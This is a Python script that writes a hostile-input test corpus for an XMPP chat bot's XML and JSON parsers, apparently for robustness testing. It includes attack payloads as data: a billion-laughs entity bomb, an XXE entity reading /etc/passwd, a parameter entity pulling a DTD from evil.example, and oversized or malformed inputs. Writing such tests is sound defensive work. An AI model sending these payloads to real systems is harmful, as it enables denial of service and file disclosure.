#!/usr/bin/env python3
"""Writes the hostile-input corpus beside this script (the files index.tsv
lists). Run it again after changing a case; the files are committed.

The test (tests/hostile_corpus.rs) serves the bot with a 16 KiB size limit
and the other limits at their defaults (depth 64, 64 attributes, 4096
children), so the over-limit cases stay small."""

import os

HERE = os.path.dirname(os.path.abspath(__file__))
MSG_HEAD = "<message type='chat' id='h1' from='mallory@evil.example/x' to='bot@bot.localhost'>"
MSG_TAIL = "</message>"


def msg(inner):
    return MSG_HEAD + inner + MSG_TAIL


def write(name, data):
    if isinstance(data, str):
        data = data.encode("utf-8")
    with open(os.path.join(HERE, name), "wb") as f:
        f.write(data)


LAUGHS = "<!DOCTYPE message [<!ENTITY lol 'lol'>" + "".join(
    "<!ENTITY lol%d '%s'>" % (i, ("&lol%d;" % (i - 1) if i > 1 else "&lol;") * 10) for i in range(1, 10)
) + "]>"

cases = {
    # XML
    "xml-billion-laughs.xml": LAUGHS + msg("<body>&lol9;</body>"),
    "xml-external-entity.xml": "<!DOCTYPE message [<!ENTITY xxe SYSTEM 'file:///etc/passwd'>]>"
    + msg("<body>&xxe;</body>"),
    "xml-undefined-entity.xml": msg("<body>&lol;</body>"),
    "xml-parameter-entity.xml": "<!DOCTYPE m [<!ENTITY % p SYSTEM 'http://evil.example/x.dtd'> %p;]>"
    + msg("<body>x</body>"),
    "xml-deep-nesting.xml": msg("<body>x</body>" + "<a xmlns='urn:x'>" * 100 + "</a>" * 100),
    "xml-deep-nesting-at-limit.xml": msg("<body>x</body>" + "<a xmlns='urn:x'>" * 63 + "</a>" * 63),
    "xml-many-attributes.xml": msg(
        "<body>x</body><a xmlns='urn:x' " + " ".join("a%d='v'" % i for i in range(100)) + "/>"
    ),
    "xml-many-children.xml": msg("<body>x</body><a xmlns='urn:x'>" + "<b/>" * 5000 + "</a>"),
    "xml-huge-attribute.xml": msg("<body>x</body><a xmlns='urn:x' v='" + "A" * 20000 + "'/>"),
    "xml-big-attribute-within-limit.xml": msg("<body>x</body><a xmlns='urn:x' v='" + "A" * 12000 + "'/>"),
    "xml-huge-body.xml": msg("<body>" + "B" * 20000 + "</body>"),
    "xml-invalid-utf8.xml": MSG_HEAD.encode() + b"<body>\xff\xfe\xc3\x28</body>" + MSG_TAIL.encode(),
    "xml-overlong-utf8.xml": MSG_HEAD.encode() + b"<body>\xc0\xaf</body>" + MSG_TAIL.encode(),
    "xml-truncated.xml": msg("<body>hello</body>")[:-12],
    "xml-truncated-in-attribute.xml": "<message type='chat' from='mallory@evil.exa",
    "xml-empty.xml": "",
    "xml-whitespace-only.xml": "  \n\t ",
    "xml-two-roots.xml": msg("<body>a</body>") + msg("<body>b</body>"),
    "xml-nul-char-ref.xml": msg("<body>&#0;</body>"),
    "xml-control-char.xml": msg("<body>bell\x07</body>"),
    "xml-processing-instruction.xml": msg("<?evil payload?><body>x</body>"),
    "xml-unbound-prefix.xml": msg("<body>x</body><p:a/>"),
    "xml-duplicate-attribute.xml": "<message type='chat' type='groupchat' to='bot@bot.localhost'><body>x</body></message>",
    # found by fuzzing: accepted, then written back as invalid XML
    "xml-element-in-xml-namespace.xml": msg("<body>x</body><xml:a edy='1'/>"),
    "xml-mismatched-tags.xml": msg("<body>x</bodi>"),
    "xml-cdata.xml": msg("<body><![CDATA[<not markup>]]></body>"),
    "xml-bom-and-declaration.xml": b"\xef\xbb\xbf<?xml version='1.0' encoding='UTF-8'?>" + msg("<body>hi</body>").encode(),
    "xml-wrong-root.xml": "<stream:stream xmlns:stream='http://etherx.jabber.org/streams'/>",
    "xml-unknown-root.xml": "<iq2 type='get' to='bot@bot.localhost'/>",
    "xml-wrong-namespace.xml": "<message xmlns='jabber:server' type='chat' to='bot@bot.localhost'><body>x</body></message>",
    "xml-invalid-jid.xml": "<message type='chat' from='@@@' to='bot@bot.localhost'><body>x</body></message>",
    "xml-unknown-type.xml": "<message type='shout' to='bot@bot.localhost'><body>x</body></message>",
    "xml-iq-without-type.xml": "<iq id='q' to='bot@bot.localhost'><ping xmlns='urn:xmpp:ping'/></iq>",
    "xml-iq-invalid-payload.xml": "<iq type='get' id='q' from='mallory@evil.example/x' to='bot@bot.localhost'>"
    "<query xmlns='http://jabber.org/protocol/disco#info'><feature/></query></iq>",
    # JSON
    "json-truncated.json": '{"kind":"message","type":"chat","body":"hel',
    "json-empty.json": "",
    "json-deep-nesting.json": '{"kind":"message","type":"chat","x":' + "[" * 200 + "]" * 200 + "}",
    "json-many-entries.json": '{"kind":"message","type":"chat","x":[' + ",".join("0" * 1 for _ in range(5000)) + "]}",
    "json-huge-string.json": '{"kind":"message","type":"chat","body":"' + "B" * 20000 + '"}',
    "json-invalid-utf8.json": b'{"kind":"message","type":"chat","body":"\xff\xfe"}',
    "json-top-level-array.json": '[{"kind":"message","type":"chat","body":"x"}]',
    "json-top-level-string.json": '"message"',
    "json-null.json": "null",
    "json-number-as-to.json": '{"kind":"message","type":"chat","to":42,"body":"x"}',
    "json-object-as-body.json": '{"kind":"message","type":"chat","to":"bot@bot.localhost","body":{"text":"x"}}',
    "json-array-as-kind.json": '{"kind":["message"],"type":"chat","body":"x"}',
    "json-unknown-kind.json": '{"kind":"stream","type":"chat","body":"x"}',
    "json-missing-kind.json": '{"type":"chat","to":"bot@bot.localhost","body":"x"}',
    "json-bool-as-ping.json": '{"kind":"iq","type":"get","id":"p","to":"bot@bot.localhost","ping":"yes"}',
    "json-invalid-jid.json": '{"kind":"message","type":"chat","from":"@@@","to":"bot@bot.localhost","body":"x"}',
    "json-nan.json": '{"kind":"message","type":"chat","body":NaN}',
    "json-trailing-garbage.json": '{"kind":"message","type":"chat","body":"x"} {}',
    "json-lone-surrogate.json": '{"kind":"message","type":"chat","to":"bot@bot.localhost","from":"a@b/c","body":"\\ud800"}',
    "json-duplicate-keys.json": '{"kind":"message","type":"chat","to":"bot@bot.localhost","from":"a@b/c","body":"x","body":"y"}',
    # content types (a valid stanza under a wrong type)
    "valid-message.xml": msg("<body>hi</body>"),
    "valid-message.json": '{"kind":"message","type":"chat","id":"h1","from":"mallory@evil.example/x","to":"bot@bot.localhost","body":"hi"}',
}

for name, data in cases.items():
    write(name, data)
print(f"{len(cases)} files written")
